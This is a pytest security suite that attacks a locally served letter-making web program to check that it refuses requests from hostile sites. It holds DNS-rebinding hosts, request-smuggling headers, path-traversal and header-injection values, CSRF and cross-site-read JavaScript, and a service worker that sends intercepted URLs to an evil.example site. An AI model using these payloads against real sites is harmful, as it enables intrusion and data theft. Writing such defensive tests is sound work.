"""Other websites, ports and odd requests against the running program.

They use a real browser. The attacker of these tests knows more than a real one can: the port, the
random prefix of the paths, the campaign's key.
"""

from __future__ import annotations

import re
import socket
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selenium.common.exceptions import WebDriverException
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from support.browsers import chromium, needs_browser
from support.campaigns import letters, make
from support.everyday import tries
from support.hostile_sites import HostileSite, hostile_site
from support.page_program import Served, command, environment, path_of, served
from support.pages import unchanged, wait_for

pytestmark = pytest.mark.slow

SIGNER = "Nadia Zqnovak"
SIGNERS = [["Name"], [SIGNER], ["Bo Berg"]]


@dataclass(frozen=True)
class AttackedProgram:
    """The running program, with a campaign."""

    served: Served
    home: Path
    folder: Path
    key: str

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.served.port}"

    @property
    def root(self) -> str:
        """The address below which the page's screens are."""
        return f"http://{self.host}{self.served.prefix}"

    @property
    def campaign(self) -> str:
        return f"{self.root}/c/{self.key}"

    def link(self) -> str:
        """Return a new link, as a second double-click does."""
        ran = subprocess.run(
            command("--no-browser"),
            env=environment(self.home),
            capture_output=True,
            text=True,
            check=True,
            timeout=30,
        )
        return ran.stdout.strip()

    def say(self, request: bytes) -> bytes:
        """Send bytes to the socket; return the response, as far as there is one."""
        answer = b""
        with (
            socket.create_connection(("127.0.0.1", self.served.port), 20) as one,
            suppress(OSError),
        ):
            one.sendall(request)
            one.shutdown(socket.SHUT_WR)
            while more := one.recv(65536):
                answer += more
        return answer

    def head(self, start: str, *lines: str) -> bytes:
        """Return the head of a request that would be accepted.

        A test changes it.
        """
        own_parts = [f"Host: {self.host}", f"Cookie: {self.served.cookie}"]
        return "\r\n".join([start, *own_parts, *lines, "Connection: close", "", ""]).encode()

    def works(self) -> None:
        """Fail if the page does not answer any longer."""
        assert self.served.process.poll() is None
        answer, text = self.served.inside(f"/c/{self.key}/letters?view=list")
        assert answer.status == 200
        assert SIGNER in text


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackedProgram]:
    home = tmp_path_factory.mktemp("attacked")
    folder = make(home / "campaign", Signers=SIGNERS)
    with served(home, folder) as program:
        goal = program.enter()
        yield AttackedProgram(program, home, folder, goal.split("/")[2])


# Odd requests, which no browser sends


def status_of(answer: bytes) -> int:
    """Return the status of the first response; 0 if the program hung up."""
    return int(answer.split()[1]) if answer else 0


def test_a_request_of_the_page_itself_is_answered(page: AttackedProgram) -> None:
    target = f"GET {page.served.prefix}/c/{page.key}/letters?view=list HTTP/1.1"
    assert SIGNER.encode() in page.say(page.head(target))


@pytest.mark.parametrize(
    "host",
    [
        *("evil.example", "localhost:{}", "127.0.0.1", "127.0.0.1:1", "127.0.0.1.evil.example:{}"),
        *("[::1]:{}", "127.1:{}", "2130706433:{}", "127.0.0.1:{}@evil.example", "0.0.0.0:{}", ""),
    ],
)
def test_a_rebound_host_name_does_not_reach_the_page(page: AttackedProgram, host: str) -> None:
    name = host.format(page.served.port)
    own_parts = f"Cookie: {page.served.cookie}\r\nConnection: close\r\n\r\n"
    target = f"{page.served.prefix}/c/{page.key}/letters"
    answer = page.say(f"GET {target} HTTP/1.1\r\nHost: {name}\r\n{own_parts}".encode())
    assert status_of(answer) == 421
    assert status_of(page.say(f"GET {target} HTTP/1.0\r\n{own_parts}".encode())) == 421


@pytest.mark.parametrize(
    "line",
    [
        "Origin: null",
        "Origin: http://evil.example",
        "Origin: http://127.0.0.1:1",
        "Sec-Fetch-Site: cross-site",
        "Sec-Fetch-Site: same-site",
        "Sec-Fetch-Site: same-origin\r\nSec-Fetch-Site: cross-site",
    ],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_requests_of_another_website_are_refused(
    page: AttackedProgram, method: str, line: str
) -> None:
    target = f"{method} {page.served.prefix}/c/{page.key}/letters HTTP/1.1"
    answer = page.say(page.head(target, line))
    assert status_of(answer) == 403
    assert SIGNER.encode() not in answer


@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_a_request_without_origin_changes_nothing(page: AttackedProgram, method: str) -> None:
    target = f"{method} {page.served.prefix}/stop HTTP/1.1"
    assert status_of(page.say(page.head(target, "Content-Length: 0"))) == 403
    page.works()


@pytest.mark.parametrize("method", ["DELETE", "TRACE", "OPTIONS", "CONNECT", "PATCH", "PROPFIND"])
def test_unusual_http_methods_are_refused(page: AttackedProgram, method: str) -> None:
    target = f"{method} {page.served.prefix}/stop HTTP/1.1"
    answer = page.say(page.head(target, f"Origin: http://{page.host}"))
    assert status_of(answer) == 405
    assert page.served.cookie.encode() not in answer
    assert b"access-control" not in answer.lower()


def test_the_cookie_of_an_earlier_start_opens_nothing(
    page: AttackedProgram, tmp_path: Path
) -> None:
    with served(tmp_path) as other:
        other.enter()
        value = other.cookie.partition("=")[2]
        cookie = f"merge-{page.served.port}={value}; {other.cookie}"
        answer, _ = page.served.ask("GET", f"{page.served.prefix}/", Cookie=cookie)
        assert answer.status == 403
        answer, _ = page.served.ask("GET", f"{other.prefix}/", Cookie=page.served.cookie)
        assert answer.status == 403


def test_a_link_admits_a_browser_once(page: AttackedProgram) -> None:
    path = path_of(page.link())
    assert page.served.ask("GET", path)[0].status == 200
    answer, text = page.served.ask("GET", path)
    assert answer.status == 403
    assert answer.getheader("Set-Cookie") is None
    assert "closed for security" in text


STOP_BEHIND = "POST {prefix}/stop HTTP/1.1\r\nHost: {host}\r\nOrigin: {evil}\r\n\r\n"


@pytest.mark.parametrize(
    "lines",
    [
        ["Content-Length: 5", "Content-Length: 6"],
        ["Content-Length: 5", "Content-Length: 5"],
        ["Content-Length: 5, 5"],
        ["Content-Length: +5"],
        ["Content-Length: 0x5"],
        ["Content-Length: 5", "Transfer-Encoding: chunked"],
        ["Transfer-Encoding: chunked", "Content-Length: 5"],
        ["Transfer-Encoding: identity", "Content-Length: 5"],
        ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        ["Transfer-Encoding: xchunked"],
        ["Transfer-Encoding:\x0bchunked"],
        ["Transfer-Encoding : chunked"],
        [" Transfer-Encoding: chunked"],
        ["X: y\r Transfer-Encoding: chunked"],
        ["Host: evil.example"],
        ["Content_Length: 5", "Content-Length: 0"],
    ],
)
def test_a_request_smuggled_in_a_body_is_not_answered(
    page: AttackedProgram, lines: list[str]
) -> None:
    """The second request would end the program, if it were accepted."""
    target = f"POST {page.served.prefix}/nowhere HTTP/1.1"
    head = page.head(target, f"Origin: http://{page.host}", *lines)
    head = head.replace(b"Connection: close\r\n", b"")
    behind = STOP_BEHIND.format(
        prefix=page.served.prefix, host=page.host, evil="http://evil.example"
    )
    answer = page.say(head + b"0\r\n\r\n" + behind.encode())
    assert not re.search(rb"HTTP/1\.[01] (200|303)", answer)
    page.works()


@pytest.mark.parametrize("scheme", ["http://evil.example", "http://127.0.0.1:1", "//evil.example"])
def test_an_absolute_address_as_path_leads_nowhere_else(page: AttackedProgram, scheme: str) -> None:
    target = f"POST {scheme}{page.served.prefix}/stop HTTP/1.1"
    assert status_of(page.say(page.head(target, "Origin: http://evil.example"))) in {400, 403, 404}
    page.works()


@pytest.mark.parametrize(
    "path",
    [
        *("/../signers.xlsx", "/..%2f..%2fsigners.xlsx", "/%2e%2e/signers.xlsx", "/static/%00"),
        *("/c/{key}/letter/../../x", "/c/{key}/letter/..%5c..%5cx.docx", "/c/{key}/letter/%00"),
        *("/c/{key}/letter/-1", "/c/{key}/letter/0000000000000000.docx", "/c/00000000/data"),
        *("/c/{key}/letter/0000000000000000.pdf", "/c/{key}/letter/signers.xlsx", "/c//data"),
        *("/c/{key}%2fdata%2f..", "/c/{key}/data;x=/..", "/c/{key}\\data", "/c/../c/{key}/data"),
    ],
)
def test_an_odd_path_is_not_found(page: AttackedProgram, path: str) -> None:
    target = page.served.prefix + path.format(key=page.key)
    assert status_of(page.say(page.head(f"GET {target} HTTP/1.1"))) == 404


@pytest.mark.parametrize(
    "path", ["/c/{key}/letters/make?x=%0d%0aSet-Cookie:%20a=b", "/language", "/c/{key}/errand/stop"]
)
@pytest.mark.parametrize(
    "goal", ["/x\r\nSet-Cookie: a=b", "//evil.example", "http://evil.example", "/\\evil.example"]
)
def test_no_form_adds_a_header_to_a_response(page: AttackedProgram, path: str, goal: str) -> None:
    form = {"next": goal, "state": goal, "signer": goal, "language": goal}
    body = "&".join(f"{name}={_quoted(value)}" for name, value in form.items()).encode()
    kind = "application/x-www-form-urlencoded"
    path = path.format(key=page.key)
    answer, _ = page.served.inside(path, "POST", body, Content_Type=kind)
    assert answer.getheader("Set-Cookie") is None
    assert (answer.getheader("Location") or page.served.prefix).startswith(page.served.prefix)


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


@settings(
    max_examples=tries(60, 400),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    method=st.sampled_from(["GET", "POST", "PUT", "HEAD"]) | st.text(max_size=9),
    target=st.text(max_size=40),
    lines=st.lists(st.text(max_size=40) | st.builds("{}: {}".format, *[st.text(max_size=15)] * 2)),
)
def test_random_requests_without_the_cookie_are_refused(
    page: AttackedProgram, method: str, target: str, lines: list[str]
) -> None:
    request = "\r\n".join([f"{method} /{target} HTTP/1.1", f"Host: {page.host}", *lines, "", ""])
    answer = page.say(request.encode("utf-8", "surrogatepass"))
    assert SIGNER.encode() not in answer
    assert answer == b"" or status_of(answer) >= 400
    assert page.served.process.poll() is None


# Other websites in the same browser


@pytest.fixture(scope="module")
def evil() -> Iterator[HostileSite]:
    with hostile_site() as site:
        yield site


@pytest.fixture(scope="module")
def signed_in(page: AttackedProgram) -> Iterator[Chrome]:
    """A signed-in browser, in which evil.example is this computer."""
    browser = chromium("--host-resolver-rules=MAP evil.example 127.0.0.1")
    try:
        browser.set_script_timeout(20)
        browser.get(page.link())
        wait_for(lambda: browser.current_url.startswith(page.root))
        yield browser
    finally:
        browser.quit()


SITES = ["127.0.0.1", pytest.param("evil.example", marks=pytest.mark.slow)]
"""Another port, which the browser treats as the same site; another site.

To the other site, the browser sends less.
"""

READINGS = {
    "fetch": "fetch(url, {credentials: 'include'}).then(a => a.text()).then(done, () => done(''))",
    "fetch without asking": """fetch(url, {credentials: 'include', mode: 'no-cors'})
        .then(a => a.text()).then(done, () => done(''))""",
    "request": """const one = new XMLHttpRequest(); one.withCredentials = true;
        one.onloadend = () => done(one.responseText); one.open('GET', url); one.send()""",
    "picture": """const one = new Image(); one.src = url;
        one.onload = () => done('loaded'); one.onerror = () => done('')""",
    "script": """const one = document.createElement('script'); one.src = url;
        one.onload = () => done('loaded'); one.onerror = () => done('');
        document.head.append(one)""",
    "style": """const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = url;
        one.onload = () => done('loaded'); one.onerror = () => done('');
        document.head.append(one)""",
    "worker": """try { const one = new Worker(url); one.onerror = () => done('');
        one.onmessage = e => done(String(e.data)) } catch { done('') }""",
    "module": "import(url).then(() => done('loaded'), () => done(''))",
    "manifest": """const one = document.createElement('link'); one.rel = 'manifest'; one.href = url;
        one.crossOrigin = 'use-credentials'; document.head.append(one);
        setTimeout(done, 300, '')""",
    "events": """const one = new EventSource(url, {withCredentials: true});
        one.onerror = () => { one.close(); done('') }; one.onmessage = e => done(e.data)""",
    "socket": """const one = new WebSocket(url.replace('http', 'ws'));
        one.onopen = () => done('open'); one.onerror = () => done('')""",
}
CHANGES = {
    "fetch": "fetch(url, {method: 'POST', body, mode: 'no-cors', credentials: 'include'})",
    "fetch with a form": """fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include',
        body: new URLSearchParams(body)})""",
    "fetch that asks": """fetch(url, {method: 'PUT', body, credentials: 'include',
        headers: {'X-Name': 'a'}}).catch(() => 0)""",
    "the word of a second start": """fetch(url, {method: 'POST', body,
        headers: {'X-Hand-Over': 'a'}}).catch(() => 0)""",
    "beacon": "navigator.sendBeacon(url, new URLSearchParams(body))",
    "request": """const one = new XMLHttpRequest(); one.withCredentials = true;
        one.open('POST', url); one.setRequestHeader('Content-Type', 'text/plain');
        one.send(body)""",
    "ping": """const one = document.createElement('a'); one.ping = url; one.href = '#';
        document.body.append(one); one.click()""",
    "form in a frame": """const frame = document.createElement('iframe'); frame.name = 'f';
        document.body.append(frame); const form = document.createElement('form');
        form.method = 'post'; form.action = url + '?' + body; form.target = 'f';
        document.body.append(form); form.submit()""",
    "form without an origin": """const frame = document.createElement('iframe');
        frame.sandbox = 'allow-scripts allow-forms'; frame.srcdoc = `<form method=post
        action="${url}"><input name=sure value=1></form>
        <script>document.forms[0].submit()</script>`; document.body.append(frame)""",
}


def visit(browser: Chrome, evil: HostileSite, site: str, path: str = "/") -> None:
    browser.get(f"http://{site}:{evil.port}{path}")


def run(browser: Chrome, script: str, url: str, body: str = "") -> Any:  # noqa: ANN401 - what a script returns
    head = "const [url, body, done] = arguments;"
    return browser.execute_async_script(head + script, url, body)


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("way", READINGS)
def test_another_website_reads_nothing(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, way: str, site: str
) -> None:
    visit(signed_in, evil, site)
    for path in ("/letters.json", "/letters?view=list", "/news"):
        assert run(signed_in, READINGS[way], page.campaign + path) in {"", None}, path


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("way", CHANGES)
def test_another_website_changes_nothing(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, way: str, site: str
) -> None:
    visit(signed_in, evil, site)
    with unchanged(page.folder):
        for path in ("letters/make", "start/file", "../../stop"):
            script = f"{CHANGES[way]}; setTimeout(done, 150)"
            run(signed_in, script, urljoin(f"{page.campaign}/", path), "sure=1")
    _, text = page.served.inside(f"/c/{page.key}/start/letters")
    assert "Drop a finished letter here" in text
    assert 'class="refused"' not in text
    page.works()


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
def test_a_form_sent_by_another_website_says_that_nothing_was_changed(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, site: str
) -> None:
    evil.pages["/form"] = (
        f'<form method="post" action="{page.root}/stop"><input name="sure" value="1"></form>'
        "<script>document.forms[0].submit()</script>"
    )
    visit(signed_in, evil, site, "/form")
    wait_for(lambda: signed_in.find_elements(By.CSS_SELECTOR, "main.message"))
    # Only a page of the same site sends the cookie.
    page_text = signed_in.find_element(By.CSS_SELECTOR, "main").text
    assert "Nothing was changed" in page_text or "is not signed in" in page_text
    page.works()


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize("path", ["/data", "/letters", "/frame", "/letters.json"])
def test_another_website_cannot_put_the_page_into_a_frame(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, site: str, path: str
) -> None:
    evil.pages["/framing"] = "".join(
        f"<{tag} {name}='{page.campaign}{path}' width='600' height='300'></{tag}>"
        for tag, name in (("iframe", "src"), ("embed", "src"), ("object", "data"))
    )
    visit(signed_in, evil, site, "/framing")
    for number in range(len(signed_in.find_elements(By.CSS_SELECTOR, "iframe, embed, object"))):
        signed_in.switch_to.default_content()
        framed = signed_in.find_elements(By.CSS_SELECTOR, "iframe, embed, object")[number]
        with suppress(WebDriverException):  # a page that shows nothing has no frame to switch to
            signed_in.switch_to.frame(framed)
            assert not signed_in.find_elements(By.CSS_SELECTOR, "header.bar, table, #letter")
            assert SIGNER not in signed_in.page_source
    signed_in.switch_to.default_content()


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
def test_a_window_opened_by_another_website_is_isolated_and_refused(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, site: str
) -> None:
    visit(signed_in, evil, site)
    own_window = signed_in.current_window_handle
    script = """window.other = window.open(url); setTimeout(() => { let seen = '';
        try { seen = other.document.body.innerText } catch { seen = '' }
        other.postMessage({bytes: new ArrayBuffer(1)}, '*'); done([seen, other.closed]) }, 1500)"""
    seen, is_cut_off = run(signed_in, script, f"{page.campaign}/letters?view=list")
    assert (seen, is_cut_off) == ("", True)
    for handle in signed_in.window_handles:
        signed_in.switch_to.window(handle)
        assert SIGNER not in signed_in.page_source
        if handle != own_window:
            assert signed_in.execute_script("return window.opener") is None
            signed_in.close()
    signed_in.switch_to.window(own_window)


@needs_browser
@pytest.mark.page
@pytest.mark.parametrize("site", SITES)
def test_a_link_on_another_website_opens_nothing(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome, site: str
) -> None:
    for path in ("/data", "/letters?view=list", "/letters.json"):
        evil.pages["/link"] = f'<a href="{page.campaign}{path}">Win a prize</a>'
        visit(signed_in, evil, site, "/link")
        signed_in.find_element(By.CSS_SELECTOR, "a").click()
        wait_for(lambda: signed_in.current_url.startswith(page.root))
        assert SIGNER not in signed_in.page_source
        assert signed_in.find_elements(By.CSS_SELECTOR, "main.message")


@needs_browser
@pytest.mark.page
def test_a_host_name_of_this_computer_gets_wrong_address(
    page: AttackedProgram, signed_in: Chrome
) -> None:
    """DNS rebinding: evil.example is 127.0.0.1 by now."""
    for path in ("/", f"{page.served.prefix}/c/{page.key}/letters", "/static/page.css"):
        signed_in.get(f"http://evil.example:{page.served.port}{path}")
        assert "Wrong address" in signed_in.page_source
        assert SIGNER not in signed_in.page_source


@needs_browser
@pytest.mark.page
def test_other_ports_get_neither_cookie_nor_address_of_the_page(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome
) -> None:
    evil.forget()
    for path in ("/", "/in/x", "/c/x/letters"):
        visit(signed_in, evil, "127.0.0.1", path)
    signed_in.get(f"{page.campaign}/letters")
    signed_in.execute_script("location.href = arguments[0]", f"{evil.address}/from-ours")
    wait_for(lambda: any(asked.path == "/from-ours" for asked in evil.asked))
    key = page.served.cookie.partition("=")[2]
    for asked in evil.asked:
        assert key not in str(asked.headers)
        assert page.served.prefix not in str(asked.headers)


@needs_browser
@pytest.mark.page
def test_a_service_worker_of_another_website_sees_nothing(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome
) -> None:
    evil.pages["/worker.js"] = (
        "onfetch = e => { fetch('/seen?' + encodeURIComponent(e.request.url));"
        " e.respondWith(new Response('taken over')) }"
    )
    visit(signed_in, evil, "127.0.0.1")
    script = """navigator.serviceWorker.register(url, {scope: '/'}).then(r => {
        const one = r.installing || r.active; one.onstatechange = () =>
        one.state === 'activated' && done('there'); r.active && done('there') },
        e => done(String(e)))"""
    assert run(signed_in, script, "/worker.js") == "there"
    evil.forget()
    signed_in.get(f"{page.campaign}/letters?view=list")
    assert SIGNER in signed_in.page_source
    assert not [asked for asked in evil.asked if "seen" in asked.path]
    visit(signed_in, evil, "127.0.0.1")
    signed_in.execute_async_script(
        "navigator.serviceWorker.getRegistrations().then(all =>"
        " Promise.all(all.map(one => one.unregister()))).then(arguments[0])"
    )


@needs_browser
@pytest.mark.page
def test_no_script_of_another_website_becomes_a_worker_of_the_page(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome
) -> None:
    visit(signed_in, evil, "127.0.0.1")
    script = """navigator.serviceWorker.register(url).then(() => done('there'), () => done(''))"""
    assert run(signed_in, script, f"http://{page.host}/static/page.js") == ""


@needs_browser
@pytest.mark.page
def test_cookies_of_another_port_lock_no_one_out(
    page: AttackedProgram, evil: HostileSite, signed_in: Chrome
) -> None:
    visit(signed_in, evil, "127.0.0.1")
    signed_in.execute_script(
        "for (const path of ['/', arguments[1]])"
        " document.cookie = `${arguments[0]}=evil; path=${path}`;"
        "document.cookie = `merge_language=<script>; path=${arguments[1]}`",
        f"merge-{page.served.port}",
        page.served.prefix,
    )
    signed_in.get(f"{page.campaign}/letters?view=list")
    assert SIGNER in signed_in.page_source
    visit(signed_in, evil, "127.0.0.1")
    signed_in.execute_script(
        "for (const path of ['/', arguments[1]])"
        " for (const name of [arguments[0], 'merge_language'])"
        " document.cookie = `${name}=; path=${path}; max-age=0`",
        f"merge-{page.served.port}",
        page.served.prefix,
    )


@needs_browser
@pytest.mark.page
def test_the_page_itself_may_do_what_other_websites_may_not(
    page: AttackedProgram, signed_in: Chrome
) -> None:
    """Otherwise the other tests would not have tried anything."""
    signed_in.get(f"{page.campaign}/letters")
    script = """fetch(url, {method: 'POST', body: new URLSearchParams(body)})
        .then(a => done(a.status), () => done(0))"""
    assert run(signed_in, script, f"{page.campaign}/letters/make", "sure=1") == 200
    wait_for(lambda: len(letters(page.folder)) == 4)
